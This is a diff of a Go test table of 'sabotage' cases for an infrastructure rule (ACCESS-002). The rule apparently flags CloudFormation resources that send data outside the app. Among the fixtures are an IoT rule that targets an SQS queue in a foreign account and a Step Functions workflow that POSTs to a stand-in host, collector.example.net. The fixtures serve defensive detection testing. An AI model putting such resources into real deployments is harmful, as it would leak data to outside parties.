@@ -130,8 +130,9 @@ func accessSabotages() []Case {
 		{Rule: "ACCESS-002", Name: "a queue by its address", Change: []Change{Add("Rule2", Resource("AWS::IoT::TopicRule", Object{
 			"TopicRulePayload": Object{"Actions": List{Object{"Sqs": Object{"QueueUrl": "https://sqs.eu-west-1.amazonaws.com/888888888888/q"}}}}}))},
 			At: "Rule2 TopicRulePayload.Actions.0.Sqs.QueueUrl", Says: "names account 888888888888"},
-		{Rule: "ACCESS-002", Name: "a workflow that calls a host", Change: []Change{Add("Flow", Resource("AWS::StepFunctions::StateMachine", Object{
-			"RoleArn": Att("Role", "Arn"), "DefinitionString": `{"States": {"A": {"Type": "Task", "Resource": "arn:aws:states:::http:invoke",
+		{Rule: "ACCESS-002", Name: "a workflow that calls a host",
+			Change: []Change{Add("Flow", Resource("AWS::StepFunctions::StateMachine", Object{
+				"RoleArn": Att("Role", "Arn"), "DefinitionString": `{"States": {"A": {"Type": "Task", "Resource": "arn:aws:states:::http:invoke",
 				"Arguments": {"ApiEndpoint": "https://collector.example.net/in", "Method": "POST"}, "End": true}}, "StartAt": "A"}`}))},
 			At: "Flow DefinitionString", Says: "calls https://collector.example.net/in, which is not in the app"},
 		{Rule: "ACCESS-002", Name: "an image", Change: []Change{Add("Job", Resource("AWS::Batch::JobDefinition", Object{
